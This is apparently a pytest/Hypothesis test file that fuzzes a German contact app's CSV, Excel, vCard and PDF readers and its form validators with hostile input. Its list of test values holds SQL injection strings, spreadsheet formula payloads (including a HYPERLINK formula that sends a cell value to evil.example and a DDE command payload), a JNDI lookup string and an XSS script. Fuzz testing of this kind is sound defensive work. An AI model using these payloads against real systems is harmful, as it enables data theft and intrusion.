"""Hostile input, systematically (issue 14, deliver 8): the pure readers (CSV, Excel, vCard,
reply-form PDFs) and the form validators get random bytes, huge fields, control and bidi
characters, SQL and formula injection. Whatever comes, they return a result or refuse with a
German :class:`UserError` (a ``ValidationError`` naming its field) — never another exception,
never an English message — and what they return keeps the forms' limits and holds no invisible
characters. The import through the services is in ``tests/integration/test_hostile_import.py``.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from beratung.documents import registry
from beratung.documents.samples import sample_reply_form_document
from beratung.domain.contacts import Affiliation, Organisation, Person
from beratung.domain.errors import UserError, ValidationError
from beratung.domain.rules.text import clean_text, without_invisible
from beratung.domain.rules.validation import (
    normalise_phone,
    validate_ags,
    validate_email,
    validate_postcode,
    validate_website,
)
from beratung.interchange import (
    ContactRecord,
    map_rows,
    read_csv,
    read_vcards,
    read_xlsx,
    suggest_mapping,
    write_contacts_csv,
    write_contacts_xlsx,
)
from beratung.interchange.reply_pdf import UnreadableReplyError, read_reply_fields
from beratung.services.contacts.cleaning import (
    AFFILIATION_FIELDS,
    affiliation_values,
    validate_organisation_values,
    validate_person_values,
)
from beratung.services.limits import column_limit

#: Deterministic in CI: the same examples every run; few of them, the readers are not free.
HOSTILE = settings(deadline=None, max_examples=60, derandomize=True, database=None)
FEW = settings(deadline=None, max_examples=25, derandomize=True, database=None)

#: Words of an English message (a library's exception text leaking into a German sentence).
ENGLISH = re.compile(
    r"\b(the|is|not|of|and|invalid|error|expected|cannot|line|field|unexpected|object|none|"
    r"character|file|found|failed|must|string|bytes|index|range|key|value)\b",
    re.IGNORECASE,
)

#: What an attacker puts into a cell: SQL, formulas (Excel and LibreOffice), control and
#: direction characters, markup, and values at and beyond the columns' limits.
NASTY = [
    "'); DROP TABLE person;--",
    "Robert'); DELETE FROM organisation WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "=1+2",
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "+49 711 22921-0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "Mül\x07ler\u202e\u200b\x1b",
    "\u202eevil\u202c",
    "\x00\x01\x02",
    "<script>alert(1)</script>",
    "${jndi:ldap://x}",
    "%s%s%n",
    "A" * 100_000,
    "ä" * 201,
    "\r\n\r\n",
    "\ufeffBOM",
    "\\N;;,\\,",
]

cell_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(alphabet=st.sampled_from("=+-@'\"\t\r\n;,\x00\x07\u202e\u200bAbÄ1 "), max_size=20),
)


def german(message: str, *values: str) -> None:
    """``message`` is German: no English words outside the quoted values it names."""
    text = re.sub(r"„[^“]*“", "", message)
    for value in values:
        text = text.replace(value, "")
    assert text.strip(), "leere Meldung"
    assert not ENGLISH.search(text), message


def refused_in_german(call: Callable[[], Any], *values: str) -> Any:
    """The result of ``call``, or ``None`` when it refused with a German :class:`UserError`."""
    try:
        return call()
    except UserError as exc:
        german(exc.message, *values)
        if exc.hint:
            german(exc.hint, *values)
        return None


def visible(value: object) -> None:
    if isinstance(value, str):
        assert without_invisible(value) == value, repr(value)


# ---------------------------------------------------------------------------- readers, any bytes


@HOSTILE
@given(st.binary(max_size=3000))
def test_the_csv_reader_takes_any_bytes(data: bytes) -> None:
    table = refused_in_german(lambda: read_csv(data, filename="kontakte.csv"))
    if table is not None:
        assert table.rows and all(len(row) == len(table.headers) for row in table.rows)
        for problem in table.problems:
            german(problem.message)


@HOSTILE
@given(st.lists(st.lists(cell_text, min_size=1, max_size=5), min_size=1, max_size=6),
       st.sampled_from([";", ",", "\t"]))
def test_the_csv_reader_takes_any_cells(rows: list[list[str]], delimiter: str) -> None:
    text = "\r\n".join(delimiter.join(row) for row in rows)
    for data in (text.encode("utf-8"), text.encode("utf-8", "replace")):
        refused_in_german(lambda data=data: read_csv(data, filename="kontakte.csv"))


@HOSTILE
@given(st.binary(max_size=3000))
def test_the_vcard_reader_takes_any_bytes(data: bytes) -> None:
    batch = refused_in_german(lambda: read_vcards(data, filename="kontakte.vcf"))
    if batch is not None:
        for problem in batch.problems:
            german(problem.message)


vcard_value = st.one_of(cell_text, st.text(alphabet=st.sampled_from(";:,\\=\r\nQP0A"),
                                               max_size=20))


@HOSTILE
@given(st.lists(st.tuples(st.sampled_from(["N", "FN", "ORG", "EMAIL", "TEL", "ADR", "NOTE",
                                           "TITLE", "N;ENCODING=QUOTED-PRINTABLE",
                                           "X-FOO", "item1.EMAIL", "PHOTO;ENCODING=b"]),
                          vcard_value), max_size=8),
       st.sampled_from(["2.1", "3.0", "4.0", "9"]), st.booleans())
def test_the_vcard_reader_takes_any_card(props: list[tuple[str, str]], version: str,
                                         closed: bool) -> None:
    lines = ["BEGIN:VCARD", f"VERSION:{version}", *(f"{k}:{v}" for k, v in props)]
    if closed:
        lines.append("END:VCARD")
    data = "\r\n".join(lines).encode("utf-8")
    batch = refused_in_german(lambda: read_vcards(data, filename="kontakte.vcf"))
    if batch is not None:
        for problem in batch.problems:
            german(problem.message, *(v for _k, v in props))


@HOSTILE
@given(st.binary(max_size=2000))
def test_the_xlsx_reader_takes_any_bytes(data: bytes) -> None:
    refused_in_german(lambda: read_xlsx(data, filename="kontakte.xlsx"))
    refused_in_german(lambda: read_xlsx(b"PK\x03\x04" + data, filename="kontakte.xlsx"))


@FEW
@given(st.lists(st.tuples(st.integers(1, 1_048_576), st.integers(1, 16_384), cell_text),
                min_size=1, max_size=6))
def test_the_xlsx_reader_takes_any_cells_anywhere(cells: list[tuple[int, int, str]]) -> None:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["B1"] = "Nachname", "Notizen"
    for row, column, value in cells:
        cell = sheet.cell(row=row, column=column)
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)  # what Excel can store
        cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = refused_in_german(lambda: read_xlsx(buffer.getvalue(), filename="k.xlsx"))
    if table is not None:
        assert len(table.rows) <= len(cells) + 1


@pytest.fixture(scope="module")
def workbook_bytes() -> bytes:
    return write_contacts_xlsx([ContactRecord(source_row=2, vorname="Anna", nachname="Müller",
                                              email="anna@ulm.de")])


@FEW
@given(st.data())
def test_a_damaged_workbook_is_refused_in_german(workbook_bytes: bytes, data: Any) -> None:
    cut = data.draw(st.integers(0, len(workbook_bytes) - 1))
    flip = data.draw(st.integers(0, len(workbook_bytes) - 1))
    damaged = bytearray(workbook_bytes)
    damaged[flip] ^= 0xFF
    for variant in (workbook_bytes[:cut], bytes(damaged)):
        refused_in_german(lambda variant=variant: read_xlsx(variant, filename="k.xlsx"))


# ---------------------------------------------------------------------------- reply-form PDFs


@pytest.fixture(scope="module")
def reply_form() -> bytes:
    return registry.render(sample_reply_form_document()).pdf


def _unreadable(data: bytes) -> None:
    with pytest.raises(UnreadableReplyError) as info:
        read_reply_fields(data)
    german(info.value.message)


@HOSTILE
@given(st.binary(max_size=2000))
def test_any_bytes_are_an_unreadable_reply_with_a_reason(data: bytes) -> None:
    _unreadable(data)
    _unreadable(b"%PDF-1.7\n" + data)


@HOSTILE
@given(st.data())
def test_a_truncated_or_damaged_reply_form_is_unreadable_or_read(reply_form: bytes,
                                                                 data: Any) -> None:
    cut = data.draw(st.integers(0, len(reply_form) - 1))
    try:
        read_reply_fields(reply_form[:cut])
    except UnreadableReplyError as exc:
        german(exc.message)
    damaged = bytearray(reply_form)
    for _ in range(data.draw(st.integers(1, 8))):
        damaged[data.draw(st.integers(0, len(reply_form) - 1))] = data.draw(st.integers(0, 255))
    try:
        read_reply_fields(bytes(damaged))
    except UnreadableReplyError as exc:
        german(exc.message)


# ---------------------------------------------------------------------------- form validators

PERSON_TEXT = ("last_name", "first_name", "title", "email", "phone", "mobile", "fax", "street",
               "postcode", "town", "country", "salutation_override", "notes")
ORGANISATION_TEXT = ("name", "department", "email", "phone", "fax", "street", "po_box",
                     "postcode", "town", "website", "ags", "kreis", "notes", "population")
STORED = {"person": Person, "organisation": Organisation, "affiliation": Affiliation}


def _checked(validate: Callable[[dict[str, object]], dict[str, object]], model: type,
             field: str, value: str) -> None:
    try:
        out = validate({field: value})
    except ValidationError as exc:
        assert exc.field == field, (field, exc.field, exc.message)
        german(exc.message, value)
        return
    for key, cleaned in out.items():
        visible(cleaned)
        limit = column_limit(model, key)
        if isinstance(cleaned, str) and limit is not None:
            assert len(cleaned) <= limit, (key, len(cleaned))


@HOSTILE
@given(st.sampled_from(PERSON_TEXT), cell_text)
def test_the_person_form_cleans_or_names_the_field(field: str, value: str) -> None:
    _checked(validate_person_values, Person, field, value)


@HOSTILE
@given(st.sampled_from(ORGANISATION_TEXT), cell_text)
def test_the_organisation_form_cleans_or_names_the_field(field: str, value: str) -> None:
    _checked(validate_organisation_values, Organisation, field, value)


@HOSTILE
@given(st.sampled_from(AFFILIATION_FIELDS), cell_text)
def test_the_role_form_cleans_or_names_the_field(field: str, value: str) -> None:
    _checked(affiliation_values, Affiliation, field, value)


@HOSTILE
@given(st.sampled_from([
    (validate_email, "email"), (normalise_phone, "phone"), (validate_postcode, "postcode"),
    (validate_website, "website"), (validate_ags, "ags"),
]), cell_text)
def test_the_field_rules_clean_or_name_the_field(rule: tuple[Any, str], value: str) -> None:
    check, field = rule
    try:
        check(value, field=field)
    except ValidationError as exc:
        assert exc.field == field
        german(exc.message, value)


# ---------------------------------------------------------------------------- round trip

record_text = st.one_of(st.sampled_from([v for v in NASTY if len(v) < 300]),
                        st.text(min_size=1, max_size=30))


def _stored_form(value: str | None) -> str | None:
    """What a field looks like once imported: the text rule applied."""
    return clean_text(value)


@HOSTILE
@given(st.lists(st.fixed_dictionaries({
    "nachname": record_text, "vorname": record_text, "notizen": record_text,
    "ort": record_text,
}), min_size=1, max_size=4), st.sampled_from(["csv", "xlsx"]))
def test_formula_like_values_survive_export_and_reading_as_text(
    rows: list[dict[str, str]], fmt: str
) -> None:
    records = [ContactRecord(source_row=i + 2, **{k: _stored_form(v) for k, v in row.items()})
               for i, row in enumerate(rows)]
    records = [r for r in records if not r.is_empty()]
    if not records:
        return
    if fmt == "csv":
        table = read_csv(write_contacts_csv(records), filename="export.csv")
    else:
        table = read_xlsx(write_contacts_xlsx(records), filename="export.xlsx")
    mapped = map_rows(table, suggest_mapping(table.headers, table.rows[:20])).records
    assert [(_stored_form(r.nachname), _stored_form(r.vorname), _stored_form(r.notizen),
             _stored_form(r.ort)) for r in mapped] == [
        (r.nachname, r.vorname, r.notizen, r.ort) for r in records]


def test_a_formula_is_text_in_the_exported_workbook() -> None:
    import openpyxl

    data = write_contacts_xlsx([ContactRecord(source_row=2, nachname='=HYPERLINK("x")',
                                              vorname="@SUM(A1)", notizen="+1")])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row
               if cell.value is not None)
